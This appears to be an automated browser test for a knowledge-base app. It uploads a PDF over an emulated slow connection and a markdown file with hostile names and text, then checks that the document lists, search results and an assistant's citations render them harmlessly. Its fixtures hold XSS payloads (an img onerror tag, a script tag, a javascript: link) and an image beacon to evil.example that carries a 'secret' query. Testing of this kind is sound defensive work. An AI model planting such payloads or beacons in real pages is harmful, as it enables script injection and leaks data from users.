// A PDF over a slow network, found by its words; documents whose names and texts are hostile, in every place that shows them:
// lists, chunks, the search, citations. Run with a server's base URL.
import assert from 'node:assert/strict'
import { ask, blank, launch, signUp, watched } from './browser.mjs'
import { fakeModel, useProvider } from './fake-model.mjs'

const base = process.argv[2]
const browser = await launch()
const { context, page, problems } = await watched(browser, base)
const model = await fakeModel()

const NAME = '<img src=x onerror=window.owned=1>'
const HOSTILE = `# Tides <script>window.owned=1</script>\n\nHigh water is at 6:12, ${NAME} and [again](javascript:window.owned=1) at 18:40. ![beacon](https://evil.example/p.png?q=secret)\n`

/** A PDF of one page that says this. */
function pdf(words) {
  const drawn = `BT /F1 18 Tf 60 700 Td (${words}) Tj ET`
  const objects = [
    '<< /Type /Catalog /Pages 2 0 R >>',
    '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
    '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R /Resources << /Font << /F1 5 0 R >> >> >>',
    `<< /Length ${drawn.length} >>\nstream\n${drawn}\nendstream`,
    '<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>',
  ]
  let text = '%PDF-1.4\n'
  const places = objects.map((object, at) => {
    const place = text.length
    text += `${at + 1} 0 obj\n${object}\nendobj\n`
    return String(place).padStart(10, '0')
  })
  const table = text.length
  return Buffer.from(`${text}xref\n0 6\n0000000000 65535 f \n${places.map((place) => `${place} 00000 n \n`).join('')}trailer\n<< /Size 6 /Root 1 0 R >>\nstartxref\n${table}\n%%EOF\n`)
}

/** Nothing ran, nothing was drawn, nothing was asked for elsewhere. */
async function harmless(on, found) {
  assert.equal(await on.evaluate(() => window.owned), undefined)
  assert.equal(await on.locator('[onerror], [src="x"], a[href^="javascript"], main script').count(), 0)
  assert.deepEqual(found, [])
}

async function uploaded() {
  await page.goto('/knowledge')
  await page.getByRole('button', { name: 'New knowledge base' }).first().click()
  await page.getByLabel('Name').fill(NAME)
  await page.getByRole('button', { name: 'Go on to documents' }).click()
  await page.locator('input[type=file]').setInputFiles({ name: `${NAME}.pdf`, mimeType: 'application/pdf', buffer: Buffer.concat([pdf('The ferry to the island leaves at 9:15 from the wooden pier.'), Buffer.alloc(300_000, '\n')]) })
  // As over a telephone line: how far a file is can be seen.
  const line = await context.newCDPSession(page)
  await line.send('Network.emulateNetworkConditions', { offline: false, latency: 400, downloadThroughput: 100_000, uploadThroughput: 100_000 })
  await page.getByRole('button', { name: 'Add the document' }).click()
  await page.getByRole('progressbar').first().waitFor()
  await page.getByText(/chunks?, ready/).waitFor()
  await line.send('Network.emulateNetworkConditions', { offline: false, latency: 0, downloadThroughput: -1, uploadThroughput: -1 })
  await page.reload()
  await page.locator('input[type=file]').setInputFiles({ name: `${NAME}.md`, mimeType: 'text/markdown', buffer: Buffer.from(HOSTILE) })
  await page.getByRole('button', { name: 'Add the document' }).click()
  await page.getByText(/chunks?, ready/).waitFor()
  await harmless(page, problems)
}

async function found() {
  const ask = async (question, text) => {
    await page.getByLabel('Question').fill(question)
    await page.getByRole('button', { name: 'Search' }).click()
    await page.getByText(text).first().waitFor()
  }
  await page.getByRole('link', { name: 'Try the search' }).last().click()
  await ask('When does the ferry leave?', 'wooden pier')
  await page.getByText(`${NAME}.pdf`).first().waitFor()
  await ask('When is high water?', 'High water is at 6:12')
  await harmless(page, problems)
  await page.getByRole('link', { name: 'Documents', exact: true }).click()
  await page.getByRole('link', { name: `${NAME}.md` }).click()
  await page.getByText('High water is at 6:12').waitFor()
  await harmless(page, problems)
}

async function cited() {
  await blank(page, 'Assistant', 'Pilot')
  await page.getByRole('heading', { name: 'Knowledge' }).locator('..').getByRole('button', { name: 'Add' }).click()
  await page.getByRole('dialog').getByRole('button', { name: NAME }).click()
  await page.getByRole('dialog').getByRole('button', { name: 'Done' }).click()
  await page.getByText('Unpublished changes').waitFor()
  await page.getByRole('button', { name: 'Publish' }).click()
  await page.getByText('As published').waitFor()
  const visitor = await watched(browser, base)
  await visitor.page.goto(await page.getByRole('link', { name: 'Open the page' }).getAttribute('href'))
  await ask(visitor.page, 'When is high water?')
  await visitor.page.getByRole('button', { name: `${NAME}.md` }).click()
  await visitor.page.getByRole('dialog').getByText('High water is at 6:12').waitFor()
  await harmless(visitor.page, visitor.problems)
  await visitor.context.close()
}

try {
  await signUp(page)
  await useProvider(page, model.url)
  await uploaded()
  await found()
  await cited()
  console.log('a PDF over a slow line, hostile names and texts: as they should be')
} catch (error) {
  await page.screenshot({ path: 'built/failed.png' }).catch(() => {})
  console.error(`at ${page.url()}; the page is in console/built/failed.png`)
  throw error
} finally {
  model.end()
  await browser.close()
}
